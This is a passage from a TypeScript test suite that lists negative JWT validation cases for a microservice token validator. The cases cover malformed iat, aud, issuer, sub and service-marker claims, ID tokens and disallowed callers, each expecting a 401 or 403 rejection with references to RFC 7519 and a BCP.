      ['iat-negative', 'iat negative', () => ({ iat: -100 }), 'invalid_claim'],
      ['iat-future', 'iat an hour ahead', () => ({ iat: nowSeconds() + 3600 }), 'token_not_active'],
    ] as const
  ).map(
    ([id, name, patch, code]): AttackCase => ({
      id,
      name,
      source: 'RFC 7519 §2 (NumericDate), §4.1.4–4.1.6',
      reason: 'NumericDate is a finite, non-negative JSON number in a sane range, and time rules hold',
      token: (env) => env.valid(patch()),
      expect: r401(code),
    }),
  ),
  // --- Audience -------------------------------------------------------------------------
  ...(
    [
      ['aud-missing', 'no aud', undefined],
      ['aud-wildcard', 'aud "*"', '*'],
      ['aud-wildcard-array', 'aud ["*"]', ['*']],
      ['aud-other-service', "another service's audience (replay)", 'billing'],
      ['aud-empty-array', 'aud []', []],
      ['aud-number', 'aud 1', 1],
      ['aud-case', 'aud "Payments"', 'Payments'],
      ['aud-several', 'a service token for two audiences', ['payments', 'billing']],
    ] as const
  ).map(
    ([id, name, aud]): AttackCase => ({
      id,
      name,
      source: `${BCP} §3.9; RFC 7519 §4.1.3`,
      reason:
        'a token is accepted only by the service it names, exactly; a service token naming several could be replayed by each',
      token: (env) => env.valid({ aud }),
      expect: r401('invalid_audience'),
    }),
  ),
  // --- Service marker -------------------------------------------------------------------
  ...(
    [
      ['marker-missing', 'no source claim', undefined],
      ['marker-wrong', 'source "Microservice"', 'Microservice'],
      ['marker-array', 'source ["microservice"]', ['microservice']],
      ['marker-object', 'source {"value":"microservice"}', { value: 'microservice' }],
    ] as const
  ).map(
    ([id, name, source]): AttackCase => ({
      id,
      name,
      source: `${BCP} §3.11, §3.12 (explicit typing, cross-JWT confusion)`,
      reason: 'only the exact marker value makes a service token; user tokens are not accepted here',
      token: (env) => env.valid({ source }),
      expect: r401('invalid_token_type'),
    }),
  ),
  // --- Issuer, kind and caller ------------------------------------------------------------
  {
    id: 'iss-missing',
    name: 'no iss',
    source: `${BCP} §3.8`,
    reason: 'the issuer picks the keys; none, no keys',
    token: (env) => env.valid({ iss: undefined }),
    expect: r401('invalid_issuer'),
  },
  {
    id: 'iss-trailing-slash',
    name: 'iss with a trailing slash',
    source: `${BCP} §3.8`,
    reason: 'issuers are compared exactly',
    token: (env) => env.valid({ iss: `${CORPUS_ISSUER}/` }),
    expect: r401('invalid_issuer'),
  },
  {
    id: 'iss-array',
    name: 'iss as an array',
    source: 'RFC 7519 §4.1.1',
    reason: 'iss is a string',
    token: (env) => env.valid({ iss: [CORPUS_ISSUER] }),
    expect: r401('invalid_issuer'),
  },
  {
    id: 'id-token',
    name: 'an OpenID Connect ID token (nonce)',
    source: `${BCP} §3.12`,
    reason: 'ID tokens are not access tokens',
    token: (env) => env.valid({ nonce: 'n-0S6_WzA2Mj' }),
    expect: r401('unsupported_token'),
  },
  {
    id: 'sub-number',
    name: 'sub as a number',
    source: 'RFC 7519 §4.1.2',
    reason: 'sub is a string',
    token: (env) => env.valid({ sub: 42 }),
    expect: r401('invalid_claim'),
  },
  {
    id: 'caller-not-allowed',
    name: 'a validly signed token from a caller not on the allow-list',
    source: 'caller allow-list',
    reason: 'authenticated, not allowed: 403 so the client does not fetch a new token',
    token: (env) => env.valid({ sub: 'reporting' }),
    expect: rejected(403, 'caller_not_allowed'),
  },
];
